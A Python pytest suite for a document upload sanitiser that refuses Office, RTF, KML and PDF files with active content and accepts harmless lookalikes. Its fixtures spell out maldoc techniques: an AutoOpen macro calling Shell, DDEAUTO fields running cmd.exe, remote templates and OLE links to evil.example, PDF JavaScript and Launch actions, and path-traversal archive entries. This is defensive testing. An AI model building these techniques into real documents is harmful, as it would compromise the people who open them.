# ruff: noqa: E501 — parts of documents are quoted as programs write them
"""What acts by itself when an officer opens it is not taken; what only speaks of it, or once could have, is."""

import struct
import zlib

import pytest

from lapor.common.decoding import refusals
from lapor.common.tests import compounds, samples

AUTO = 'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub\r\n'
WORD_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def relationship(kind: str, target: str, mode: str = "External") -> bytes:
    types = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    row = f'<Relationship Id="r1" Type="{types}/{kind}" Target="{target}" TargetMode="{mode}"/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{row}</Relationships>'.encode()


def leading(kind: str, target: str) -> bytes:
    return samples.office("docx", {"word/_rels/settings.xml.rels": relationship(kind, target)})


def field(*runs: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    chars = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    paragraph = chars.format("begin") + texts + chars.format("separate") + chars.format("end")
    return samples.office(
        "docx", {"word/header1.xml": f"<w:hdr {WORD_NS}><w:p>{paragraph}</w:p></w:hdr>".encode()}
    )


def package(name: str = "\x01Ole10Native") -> bytes:
    return compounds.compound({name: b"\4\0\0\0\2\0program.exe\0"})


def sheet(kind: int) -> tuple[int, bytes]:
    return 0x85, struct.pack("<IBB", 0, 1, kind) + b"\5\0Lemb1"


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        # Macros, whatever the case of their names
        (compounds.word(extra=compounds.vba(AUTO)), refusals.Macros),
        (compounds.word(extra=compounds.vba(AUTO, storage="mACROS")), refusals.Macros),
        (compounds.compound({"Workbook": compounds.biff(), "_vba_project_cur/vBa/DIR": b"x"}), refusals.Macros),
        (compounds.compound({"workbook": compounds.biff(sheet(1))}), refusals.Macros),
        (compounds.compound({"Book": compounds.biff(sheet(6))}), refusals.Macros),
        (samples.office("xlsx", {"xl/MacroSheets/sheet1.xml": b"<x/>"}), refusals.Macros),
        (samples.opendocument(extra={"Basic/Standard/M.xml": b"<m>Sub Main\nShell(&quot;x&quot;)\nEnd Sub</m>"}), refusals.Macros),
        # What fetches or runs
        (leading("attachedTemplate", "http://evil.example/x.dotm"), refusals.ReachesOut),
        (leading("attachedTemplate", "\\\\evil.example\\x.dotm"), refusals.ReachesOut),
        (leading("attachedTemplate", "file://evil.example/x.dotm"), refusals.ReachesOut),
        (leading("attachedTemplate", "file:///%5C%5Cevil.example/x.dotm"), refusals.ReachesOut),
        (leading("oleObject", "mhtml:http://evil.example/x!x-usc:http://evil.example/x"), refusals.ReachesOut),
        (leading("frame", "\\\\10.0.0.1\\share\\x.htm"), refusals.ReachesOut),
        (leading("subDocument", "https://evil.example/x.docx"), refusals.ReachesOut),
        (field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), refusals.ReachesOut),
        (field(" DD", "E excel x"), refusals.ReachesOut),
        (field("&#68;DE excel x"), refusals.ReachesOut),
        (field("QUOTE 68 68 69 65 85 84 79"), refusals.ReachesOut),
        (samples.office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<e><ddeLink ddeService='cmd'/></e>"}), refusals.ReachesOut),
        (samples.office("docx", {"word/settings.xml": b"<!DOCTYPE a [<!ENTITY b 'c'>]><fldSimple/>"}), refusals.ReachesOut),
        (samples.office("docx", {"word/afchunk.htm": b"<img src='http://evil.example/1.gif'>"}), refusals.ReachesOut),
        (compounds.word(text=b"\x13 DDEAUTO c:\\cmd.exe \x14\x15"), refusals.ReachesOut),
        (compounds.word(text="\x13DDE cmd".encode("utf-16-le")), refusals.ReachesOut),
        (compounds.compound({"Workbook": compounds.biff((0x1AE, b"\0\0\5\0\0cmd\x03/c"))}), refusals.ReachesOut),
        (compounds.word(extra={"ObjectPool/_1/\x01Ole": b"\1\0\0\2\1\0\0\0" + "http://evil.example".encode("utf-16-le")}), refusals.ReachesOut),
        (samples.opendocument(extra={"styles.xml": b"<s><text:dde-connection/></s>"}), refusals.ReachesOut),
        (samples.opendocument(extra={"styles.xml": b'<draw:floating-frame xlink:href="http://evil.example/"/>'}), refusals.ReachesOut),
        (samples.opendocument(extra={"styles.xml": b'<a xlink:href="vnd.sun.star.script:x.y?language=Basic"/>'}), refusals.ReachesOut),
        (b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", refusals.ReachesOut),
        (b"{\\rtf1{\\*\\template http://evil.example/x.dot}}", refusals.ReachesOut),
        (b'<kml><NetworkLink><Link><href>http://evil.example/</href></Link></NetworkLink></kml>', refusals.ReachesOut),
        # Files packed into documents
        (samples.office("docx", {"word/embeddings/oleObject1.bin": package()}), refusals.EmbeddedObject),
        (samples.office("docx", {"word/embeddings/oleObject1.bin": package("\x01oLE10nATIVE")}), refusals.EmbeddedObject),
        (samples.office("xlsx", {"xl/embeddings/x.zip": samples.zipped({"a.exe": b"MZ"})}), refusals.EmbeddedObject),
        (samples.office("docx", {"word/embeddings/oleObject1.bin": b"apa saja"}), refusals.EmbeddedObject),
        (samples.office("docx", {"word/media/setup.exe": samples.PROGRAM}), refusals.Program),
        (samples.office("docx", {"word/embeddings/Sheet1.xlsm": samples.office("xlsx", {"xl/vbaProject.bin": b"x"})}), refusals.Macros),
        (compounds.word(extra={"ObjectPool/_1/\x01Ole10Native": b"x"}), refusals.EmbeddedObject),
        (b"{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}", refusals.EmbeddedObject),
        # Made to be unpacked elsewhere
        (samples.office("docx", {"../../evil.sh": b"x"}), refusals.Damaged),
        (samples.office("docx", {"..\\evil.bat": b"x"}), refusals.Damaged),
    ],
)  # fmt: skip
def test_a_document_that_acts_is_refused_with_its_reason(content, refusal):
    with pytest.raises(refusal) as refused:
        samples.taken(content)
    assert type(refused.value) is refusal


@pytest.mark.parametrize(
    ("content", "extension"),
    [
        (compounds.word(extra=compounds.vba("' hanya catatan\r\nOption Explicit\r\n")), "doc"),
        (compounds.compound({"Workbook": compounds.biff(sheet(0)), **compounds.vba("", storage="_VBA_PROJECT_CUR")}), "xls"),
        (compounds.compound({"Workbook": compounds.biff((0x1AE, b"\2\0\1\4"))}), "xls"),
        (samples.opendocument(extra={"Basic/Standard/Module1.xml": b"<m>REM  kosong\n\nSub Main\n\nEnd Sub\n</m>"}), "odt"),
        (samples.opendocument(extra={"Basic/Standard/script-lb.xml": b"<library:library/>"}), "odt"),
        (leading("hyperlink", "https://blitarkota.go.id/wiki/JavaScript"), "docx"),
        (leading("attachedTemplate", "file:///C:\\Users\\rina\\Templates\\Surat.dotm"), "docx"),
        (leading("image", "http://evil.example/1.gif"), "docx"),
        (field("HYPERLINK &quot;https://go.id/DDE&quot;"), "docx"),
        (samples.office("docx", {"word/embeddings/Sheet1.xlsx": samples.office("xlsx")}), "docx"),
        (samples.office("docx", {"word/embeddings/oleObject1.bin": compounds.compound({"Equation Native": b"x"})}), "docx"),
        (b"{\\rtf1 kata objek dan \\'7b kurung}", "rtf"),
        (b"<kml><Placemark><name>Lubang</name></Placemark></kml>", "kml"),
    ],
)  # fmt: skip
def test_a_document_that_only_could_have_acted_is_taken(content, extension):
    assert samples.taken(content)[0] == extension


def test_nothing_outside_is_left_to_be_fetched():
    """A picture on somebody's server would tell them when an officer reads; the link to click stays."""
    for kind, target, is_kept in (
        ("image", "http://evil.example/1.gif", False),
        ("hyperlink", "https://blitarkota.go.id/", True),
    ):
        part = samples.part_of(samples.taken(leading(kind, target))[1], "word/_rels/settings.xml.rels")
        assert (target.encode() in part) == is_kept
    kept = samples.taken(
        samples.opendocument(extra={"styles.xml": b'<draw:image xlink:href="http://evil.example/1.gif"/>'})
    )[1]
    assert b"evil.example" not in samples.part_of(kept, "styles.xml")


# PDF


@pytest.mark.parametrize(
    "objects",
    [
        "<< /S /JavaScript /JS (app.alert(1)) >>",
        "<< /S /J#61vaScript >>",
        "<< /A << /B [ << /S /Launch /F (cmd.exe) >> ] >> >>",
        "<< /Type /Filespec /F (x.exe) /EF << /F << /Length 1 >> >> >>",
        "<< /Type /Annot /Subtype /FileAttachment >>",
        "<< /Type /Annot /Subtype /RichMedia >>",
        "<< /XFA [ (template) (x) ] >>",
        "<< /S /SubmitForm /F << /FS /URL /F (http://evil.example) >> >>",
        "<< /S /ImportData /F (x) >>",
        "<< /S /GoToR /F (\\\\\\\\evil\\\\x.pdf) /D [ 0 /Fit ] >>",
        "<< /S /GoToR /F << /Type /Filespec /F (//evil.example/x.pdf) >> >>",
        "<< /S /GoToE /T << /R /C >> >>",
        "<< /S /URI /URI (javascript:alert\\(1\\)) >>",
        "<< /OpenAction << /S /URI /URI (http://evil.example) >> >>",
        "<< /OpenAction << /S /GoTo /D [ null /Fit ] /Next << /S /URI /URI (http://evil.example) >> >> >>",
        "<< /Type /Page /AA << /O << /S /URI /URI (http://evil.example) >> >> >>",
        "<< /AA << /C << /S /Named /N /NextPage /Next [ << /S /URI /URI (http://evil.example) >> ] >> >> >>",
    ],
)
@pytest.mark.parametrize("lock", [None, ""])
def test_a_pdf_that_acts_is_refused_also_when_it_is_locked_with_nothing(objects, lock):
    with pytest.raises(refusals.ActivePdf):
        samples.taken(samples.real_pdf(objects=objects, lock=lock))


@pytest.mark.parametrize(
    "objects",
    [
        "<< /S /URI /URI (https://id.wikipedia.org/wiki/JavaScript) >>",
        "<< /S /URI /URI (https://go.id/Launch) /Contents (/JavaScript /EmbeddedFile) >>",
        "<< /OpenAction << /S /GoTo /D [ null /Fit ] >> >>",
        "<< /S /GoToR /F (lampiran.pdf) >>",
        "<< /AA << /O << /S /Named /N /FirstPage >> >> >>",
        "<< /Title (bab /XFA) >>",
        "<< /JavaScriptlike /Launchpad >>",
    ],
)
def test_a_pdf_that_only_speaks_or_links_is_taken(objects):
    assert samples.taken(samples.real_pdf(objects=objects))[0] == "pdf"


def test_an_action_in_objects_packed_twice_or_behind_a_long_head_is_found():
    act = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    packed = zlib.compress(zlib.compress(b"7 0 " + act))
    rest = b"/N 1 /First 4 /Filter [/FlateDecode /FlateDecode] /Length %d >>" % len(packed)
    for head in (b"/Type /ObjStm ", b"", b"/X (stream) ", b"% stream\n", b"/X (%s) " % (b"y" * 5000)):
        stream = b"9 0 obj << " + head + rest + b"\nstream\n" + packed + b"\nendstream endobj\n"
        with pytest.raises(refusals.ActivePdf):
            samples.taken(samples.pdf(stream))


def test_a_pdf_locked_by_its_owner_alone_is_taken_and_kept_unlocked():
    kept = samples.taken(samples.real_pdf(lock="", owner="hanya cetak"))[1]
    assert b"/Encrypt" not in kept
    with pytest.raises(refusals.Locked) as refused:
        samples.taken(samples.real_pdf(lock="rahasia"))
    refused.value.params = {"name": "rekening.pdf"}
    assert "cetak sebagai PDF" in str(refused.value)


def test_a_signed_pdf_keeps_its_signature_byte_for_byte():
    signed = samples.real_pdf(
        author="Pejabat", objects="<< /Type /Sig /ByteRange [0 1 2 3] /Contents <00> >>"
    )
    assert samples.taken(signed)[1] == signed


def test_a_pdf_cut_in_the_middle_is_damaged():
    whole = samples.real_pdf()
    with pytest.raises(refusals.Damaged):
        samples.taken(whole[: len(whole) // 2])


# PowerPoint of before 2007 packs storages into its stream


def slides(storage: bytes) -> bytes:
    packed = struct.pack("<I", len(storage)) + zlib.compress(storage)
    record = b"\x10\0\x11\x10" + struct.pack("<I", len(packed)) + packed
    return compounds.compound({"PowerPoint Document": bytes(600) + record})


def test_macros_and_packages_within_old_slides_are_found():
    for storage, refusal in (
        (compounds.compound(compounds.vba(AUTO, storage="x")), refusals.Macros),
        (package(), refusals.EmbeddedObject),
    ):
        with pytest.raises(refusal):
            samples.taken(slides(storage))
    assert samples.taken(slides(compounds.compound({"Workbook": compounds.biff()})))[0] == "ppt"
